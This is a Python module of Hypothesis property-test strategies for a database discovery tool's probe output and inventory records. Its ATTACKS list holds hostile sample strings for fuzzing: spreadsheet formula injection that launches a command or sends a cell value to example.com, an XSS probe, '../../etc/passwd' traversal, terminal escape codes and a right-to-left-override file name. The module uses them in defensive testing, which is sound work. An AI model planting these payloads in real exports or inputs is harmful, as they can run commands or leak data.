"""What hosts, known records and hostile texts can look like, for property tests."""

from __future__ import annotations

import json
import string
from datetime import UTC, datetime, timedelta
from typing import Any

from hypothesis import strategies as st

from discovery.model import (
    NO_DATABASE,
    Coverage,
    DatabaseRecord,
    DatabaseStatus,
    DiscoveryStatus,
    Host,
)

EPOCH = datetime(2026, 2, 4, 10, 0, tzinfo=UTC)
HOST = Host(
    account_id="123456789012",
    region="eu-west-1",
    instance_id="i-0abc123def456",
    coverage=Coverage.SCANNED,
    name="orders-db-1",
    tags={"Name": "orders-db-1", "Environment": "production"},
)

ATTACKS = (
    '=HYPERLINK("http://example.com/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    '"=1+1',
    "\uff1d1+1",  # full-width
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "\ufe661",  # small
    "\u22121+1",
    "harmless;=1+1",
    'harmless"; "=1+1',
    "<script>alert(1)</script>",
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x9b2J",
    "\u202egnp.exe",
    "\ud800",
    "a\x00b",
    "line\nbreak",
    "../../etc/passwd",
    "none",
    "💾" * 200,
)

attacks = st.sampled_from(ATTACKS)
any_character = st.characters(codec=None, exclude_categories=())
texts = st.text(any_character, max_size=20) | attacks

scalars = (
    st.none()
    | st.booleans()
    | st.integers()
    | st.sampled_from([-1, 0, 65536, 2**63, 10**400])
    | st.floats(allow_nan=False, allow_infinity=False)
    | texts
)
json_values: st.SearchStrategy[Any] = st.recursive(
    scalars,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(texts, inner, max_size=4),
    max_leaves=8,
)


# --- probe output -------------------------------------------------------------------------------


def database_entry(engine: str = "mysql", port: int = 3306, **fields: Any) -> dict[str, Any]:
    """One database as the probe prints it."""
    return {
        "db_id": f"{engine}-{port}",
        "engine": engine,
        "edition": "Community",
        "version": "8.0.35",
        "status": "running",
        "port": port,
        "listen": [f"0.0.0.0:{port}"],
        "data_dir": "/var/lib/mysql",
        "data_size_bytes": 2147483648,
        "data_size_complete": True,
        "binary": "/usr/sbin/mysqld",
        "config_file": "/etc/mysql/my.cnf",
        "container": None,
        "evidence": {
            "status": "process 812",
            "version": "dpkg mysql-server-core-8.0 8.0.35-0ubuntu0.22.04.1",
            "port": "listening socket",
            "data_dir": "config /etc/mysql/my.cnf",
            "data_size": "sum of file sizes",
        },
        **fields,
    }


def report_object(*databases: Any, **fields: Any) -> dict[str, Any]:
    """A report as the probe prints it."""
    return {
        "schema": 1,
        "probe": "1.0.0",
        "host": {
            "hostname": "ip-10-0-1-17",
            "os": "Ubuntu 22.04.4 LTS",
            "kernel": "5.15.0-1052-aws",
            "arch": "x86_64",
            "memory_mb": 4096,
            "cores": 2,
        },
        "databases": list(databases),
        "warnings": [],
        "complete": True,
        "elapsed_ms": 87,
        "count": len(databases),
        "end": True,
        **fields,
    }


def report_line(*databases: Any, **fields: Any) -> str:
    """The line that the probe prints."""
    return json.dumps(report_object(*databases, **fields), separators=(",", ":"))


engines = st.sampled_from(["mysql", "mariadb", "postgresql", "mongodb", "cockroach-db"])
ports = st.sampled_from([3306, 3307, 5432])
versions = st.sampled_from(["8.0.35", "8.0.36", "15", "15.4", "16rc1", "10.11.6-MariaDB"])
paths = st.sampled_from(["/var/lib/mysql", "/var/lib/mysql/", "/data/db"])

_field_names = sorted(database_entry())


@st.composite
def good_entries(draw: st.DrawFn) -> dict[str, Any]:
    """A database entry without a defect; unknown values are left out."""
    optional = {
        "version": versions,
        "data_dir": paths,
        "data_size_bytes": st.integers(0, 2**50),
        "binary": st.sampled_from(["/usr/sbin/mysqld", "/opt/mysql/bin/mysqld"]),
    }
    entry = database_entry(draw(engines), draw(ports))
    entry["status"] = draw(st.sampled_from(["running", "installed"]))
    for name, values in optional.items():
        entry[name] = draw(st.none() | values)
    return entry


@st.composite
def hostile_entries(draw: st.DrawFn) -> Any:
    """A database entry in which anything may be anything, or no entry at all."""
    if draw(st.integers(0, 9)) == 0:
        return draw(json_values)
    entry = draw(good_entries())
    for name in draw(st.lists(st.sampled_from(_field_names), max_size=4)):
        if draw(st.booleans()):
            entry[name] = draw(json_values)
        else:
            entry.pop(name, None)
    return entry


@st.composite
def honest_lines(draw: st.DrawFn) -> str:
    """What an unharmed probe prints: distinct ids, no defect, complete or not."""
    entries = draw(st.lists(good_entries(), max_size=4, unique_by=lambda entry: entry["db_id"]))
    return report_line(*entries, complete=draw(st.booleans()))


@st.composite
def hostile_lines(draw: st.DrawFn) -> str:
    """What a hostile or broken host might print, up to texts that are no report at all."""
    report = report_object(*draw(st.lists(hostile_entries(), max_size=5)))
    for name in draw(st.lists(st.sampled_from(sorted(report)), max_size=2)):
        report[name] = draw(json_values)
    line = json.dumps(report, ensure_ascii=draw(st.booleans()))
    match draw(st.integers(0, 9)):
        case 0:
            return line[: draw(st.integers(0, len(line)))]
        case 1:
            return line + draw(texts)
        case 2:
            return line[: draw(st.integers(0, len(line)))] + "---Output truncated---"
        case 3:
            return draw(texts) + line
        case 4:
            return f"\n{line}\n----------ERROR-------\n{draw(texts)}"
    return line


# --- what the inventory holds -------------------------------------------------------------------


def known_record(db_id: str = "mysql-3306", **fields: Any) -> DatabaseRecord:
    """A record of HOST that an earlier run stored."""
    values: dict[str, Any] = {
        "account_id": HOST.account_id,
        "instance_id": HOST.instance_id,
        "region": HOST.region,
        "db_id": db_id,
        "discovery_timestamp": EPOCH,
        "discovery_status": DiscoveryStatus.SUCCESS,
        "run_id": "20260204T100000Z-4f1c2a",
        "first_seen": EPOCH - timedelta(days=30),
    }
    if db_id != NO_DATABASE:
        values |= {
            "last_seen": EPOCH,
            "engine": db_id.rpartition("-")[0],
            "version": "8.0.35",
            "status": DatabaseStatus.RUNNING,
            "port": 3306,
            "data_dir": "/var/lib/mysql",
            "data_size_mb": 2048.0,
            "binary": "/usr/sbin/mysqld",
            "evidence": {
                "status": "process 812",
                "version": "dpkg mysql-server-core-8.0",
                "data_dir": "config /etc/mysql/my.cnf",
                "data_size_mb": "sum of file sizes",
            },
        }
    return DatabaseRecord(**(values | fields))


@st.composite
def known_records(draw: st.DrawFn) -> list[DatabaseRecord]:
    """What the inventory may hold of HOST: databases in any state, perhaps a placeholder."""
    ids = [f"{engine}-{port}" for engine in ("mysql", "postgresql") for port in (3306, 5432)]
    records: list[DatabaseRecord] = []
    for db_id in draw(st.lists(st.sampled_from(ids), unique=True)):
        status = draw(st.sampled_from(DatabaseStatus))
        gone = status is DatabaseStatus.GONE
        records.append(
            known_record(
                db_id,
                status=status,
                version=draw(st.none() | versions),
                data_dir=draw(st.none() | paths),
                data_size_mb=draw(st.none() | st.just(0.0) | st.floats(0, 1e9)),
                gone_at=EPOCH if gone else None,
                expires_at=int(EPOCH.timestamp()) if gone else None,
            )
        )
    if draw(st.booleans()):
        status = draw(st.sampled_from(DiscoveryStatus))
        records.append(known_record(NO_DATABASE, discovery_status=status))
    return records


def hostile_records() -> st.SearchStrategy[DatabaseRecord]:
    """A record whose every text a stranger chose, as if nothing had cleaned it."""
    text = texts | st.text(string.printable, max_size=20)
    return st.builds(
        known_record,
        db_id=text,
        version=text,
        edition=text,
        data_dir=text,
        hostname=text,
        instance_name=text,
        environment=text,
        error=text,
        listen=st.lists(text, max_size=2).map(tuple),
        warnings=st.lists(text, max_size=2).map(tuple),
        tags=st.dictionaries(text, text, max_size=3),
        evidence=st.dictionaries(text, text, max_size=3),
        data_size_mb=st.none() | st.floats(),
        system_memory_mb=st.none() | st.integers(-5, 2**40),
    )
